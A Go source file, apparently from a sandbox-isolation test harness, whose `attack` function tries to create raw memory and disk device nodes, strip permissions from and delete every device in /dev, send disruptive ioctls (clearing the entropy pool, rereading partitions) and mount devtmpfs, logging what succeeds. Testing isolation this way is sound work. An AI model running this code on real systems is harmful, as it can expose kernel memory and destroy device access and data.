package main

import (
	"fmt"
	"io/fs"
	"os"
	"path/filepath"

	"golang.org/x/sys/unix"
)

// Makes device nodes of the machine's memory and disks, and works on those that
// are there.
func attack(where string) {
	if where == "host" {
		nested("nested")
	}
	for _, d := range []struct {
		name         string
		kind         uint32
		major, minor uint32
	}{
		{"mem", unix.S_IFCHR, 1, 1}, {"kmem", unix.S_IFCHR, 1, 2}, {"port", unix.S_IFCHR, 1, 4}, {"kmsg", unix.S_IFCHR, 1, 11}, {"null", unix.S_IFCHR, 1, 3},
		{"console", unix.S_IFCHR, 5, 1}, {"tty1", unix.S_IFCHR, 4, 1}, {"fuse", unix.S_IFCHR, 10, 229}, {"kvm", unix.S_IFCHR, 10, 232}, {"loop-control", unix.S_IFCHR, 10, 237}, {"tun", unix.S_IFCHR, 10, 200},
		{"sda", unix.S_IFBLK, 8, 0}, {"vda", unix.S_IFBLK, 254, 0}, {"vdb", unix.S_IFBLK, 253, 0}, {"loop0", unix.S_IFBLK, 7, 0}, {"nvme", unix.S_IFBLK, 259, 0},
	} {
		for _, dir := range []string{"/tmp", "/work", "/dev/shm", "/dev"} {
			path := dir + "/" + d.name + "-" + evil
			err := unix.Mknod(path, d.kind|0o666, int(unix.Mkdev(d.major, d.minor)))
			tried("make "+d.name+" in "+dir, err)
			if err == nil {
				peek(path)
			}
		}
	}
	filepath.WalkDir("/dev", func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.Type()&fs.ModeDevice == 0 {
			return nil
		}
		tried("chmod "+path, os.Chmod(path, 0))
		tried("chown "+path, os.Chown(path, 1, 1))
		tried("remove "+path, os.Remove(path))
		// Requests that would change what the device does for others.
		fd, err := unix.Open(path, unix.O_RDWR|unix.O_NONBLOCK|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
		if err != nil {
			return nil
		}
		for _, request := range []uintptr{0x5206 /* RNDCLEARPOOL */, 0x5204 /* RNDZAPENTCNT */, 0x125f /* BLKRRPART */, 0x4c00 /* LOOP_SET_FD */, 0xae01 /* KVM_CREATE_VM */} {
			if _, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), request, 0); errno == 0 {
				say("ok", fmt.Sprintf("request %#x to %s", request, path))
			}
		}
		unix.Close(fd)
		return nil
	})
	tried("mount devtmpfs", unix.Mount("none", "/mnt", "devtmpfs", 0, ""))
}
